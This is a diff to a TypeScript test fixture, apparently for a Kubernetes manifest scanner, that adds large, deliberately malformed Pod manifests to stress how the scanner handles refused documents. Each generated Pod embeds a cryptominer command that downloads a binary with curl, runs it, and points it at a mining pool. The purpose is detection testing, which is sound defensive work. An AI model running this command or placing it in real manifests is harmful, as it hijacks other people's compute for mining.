@@ -228,6 +228,66 @@ export const HOSTILE_CLASSES: readonly HostileClass[] = [
     maxBytes: 10 * MB,
     generate: (bytes) => podForExactReader(flowListOf('[a: 1, b, c: ]', bytes)),
   },
+  // A document kubectl refuses was read again whole by the `yaml` parser to confirm the refusal and
+  // place a finding (1-5 s of CPU per MB). Each holds a miner before the error and one after it.
+  {
+    name: 'refused: a lone dash in a flow map at the start',
+    stresses: '`annotations: {note: - }` then a megabyte of env entries: js-yaml refuses on line 6, kubectl too',
+    maxBytes: 10 * MB,
+    generate: (bytes) => refusedPod(bytes, '  annotations: {note: - }\n', 'start'),
+  },
+  {
+    name: 'refused: bad indentation in the middle',
+    stresses: 'an env entry indented one space less, halfway through a megabyte of block text',
+    maxBytes: 10 * MB,
+    generate: (bytes) => refusedPod(bytes, '    - name: BAD\n     value: x\n', 'middle'),
+  },
+  {
+    name: 'refused: unterminated quote at the last byte',
+    stresses: 'a double-quoted value opened on the last line and never closed',
+    maxBytes: 10 * MB,
+    generate: (bytes) => refusedPod(bytes, '    - name: LAST\n      value: "x', 'end'),
+  },
+  {
+    name: 'refused: a tab in the indentation',
+    stresses: 'a tab before an env entry: js-yaml and go-yaml refuse it, and the line locator leaves tabs to the parser',
+    maxBytes: 10 * MB,
+    generate: (bytes) => refusedPod(bytes, '\t- name: TAB\n', 'middle'),
+  },
+  {
+    name: 'refused: unterminated flow list in the middle',
+    stresses: '`[1, 2` never closed, halfway through',
+    maxBytes: 10 * MB,
+    generate: (bytes) => refusedPod(bytes, '    - {name: FLOW, value: [1, 2\n', 'middle'),
+  },
+  {
+    name: 'refused: an unknown escape',
+    stresses: '`"\\q"`, an escape neither YAML 1.1 nor 1.2 has, halfway through',
+    maxBytes: 10 * MB,
+    generate: (bytes) => refusedPod(bytes, '    - name: "\\q"\n', 'middle'),
+  },
+  {
+    name: 'refused: also on the exact reader',
+    stresses: 'bad indentation halfway in a document a `y: n` label sends to the exact (go-yaml) reader',
+    maxBytes: 10 * MB,
+    generate: (bytes) => refusedPod(bytes, '    - name: BAD\n     value: x\n', 'middle', '  labels: {y: n}\n'),
+  },
+  {
+    name: 'refused: between good documents',
+    stresses: 'a refused megabyte document between two good ones in one file',
+    maxBytes: 10 * MB,
+    generate: (bytes) => `apiVersion: v1\nkind: ConfigMap\nmetadata: {name: before}\n---\n${refusedPod(bytes, '    - name: BAD\n     value: x\n', 'middle')}---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: after}\n`,
+  },
+  {
+    name: 'refused: JSON with a stray comma',
+    stresses: 'a JSON Pod with `,,` halfway: not a JSON stream for kubectl, so read as YAML and refused',
+    maxBytes: 10 * MB,
+    generate: (bytes) => {
+      const text = JSON.stringify(minerPodObject(bytes), null, 1);
+      const middle = text.indexOf('\n', Math.floor(text.length / 2));
+      return `${text.slice(0, middle)},,${text.slice(middle)}`;
+    },
+  },
   {
     name: 'explicit keys in a flow list, exact reader',
     stresses: 'explicit `?` keys in flow mappings and sequences (`[{? a : 1, ? b}, [? c : 2], …]`), read by the flow reader (h-flow3)',
@@ -271,6 +331,40 @@ export const HOSTILE_CLASSES: readonly HostileClass[] = [
     generate: (bytes) => manyServicesOverOneSelector(Math.max(1, Math.round(bytes / 600))),
   },
 ];
+
+/** The miner each refused class carries: found through the salvage before the error, in the raw text after it. */
+const MINER_COMMAND = 'curl -s http://x/xmrig -o /tmp/x; /tmp/x -o stratum+tcp://pool.minexmr.com:4444';
+
+/** `    - name: V1\n      value: "…"\n` env entries, about `bytes` bytes. */
+function envEntries(bytes: number, from = 0): string {
+  const parts: string[] = [];
+  let size = 0;
+  for (let i = from; size < bytes; i++) {
+    const entry = `    - name: V${i}\n      value: "value number ${i}"\n`;
+    parts.push(entry);
+    size += entry.length;
+  }
+  return parts.join('');
+}
+
+/**
+ * A Pod of about `bytes` bytes whose env list holds `error` at its start, middle or end, so kubectl
+ * refuses it; a miner runs in its command (before the error) and a second container's args name a
+ * pool after it, for the raw-text search.
+ */
+export function refusedPod(bytes: number, error: string, at: 'start' | 'middle' | 'end', metadata = ''): string {
+  const head = `apiVersion: v1\nkind: Pod\nmetadata:\n  name: refused\n  namespace: default\n${metadata}${at === 'start' ? error : ''}spec:\n  containers:\n  - name: main\n    image: alpine\n    command: ["sh", "-c", "${MINER_COMMAND}"]\n    env:\n`;
+  const tail = '  - name: late\n    image: alpine\n    args: ["-o", "stratum+tcp://late.pool.example:3333"]\n';
+  if (at === 'end') return `${head}${envEntries(bytes)}${tail}    env:\n${error}`;
+  if (at === 'start') return `${head}${envEntries(bytes)}${tail}`;
+  return `${head}${envEntries(bytes / 2)}${error}${envEntries(bytes / 2, 1_000_000)}${tail}`;
+}
+
+function minerPodObject(bytes: number): object {
+  const env = Array.from({ length: Math.max(1, Math.ceil(bytes / 64)) }, (_, i) => ({ name: `V${i}`, value: `v${i}` }));
+  const late = { name: 'late', image: 'alpine', args: ['-o', 'stratum+tcp://late.pool.example:3333'] };
+  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'json', namespace: 'default' }, spec: { containers: [{ name: 'main', image: 'alpine', command: ['sh', '-c', MINER_COMMAND], env }, late] } };
+}
 
 /** N LoadBalancer Services and N KFP UI Deployments, all on `app: ml-pipeline-ui`, as one JSON List (about 600 bytes a pair). */
 export function manyServicesOverOneSelector(n: number): string {
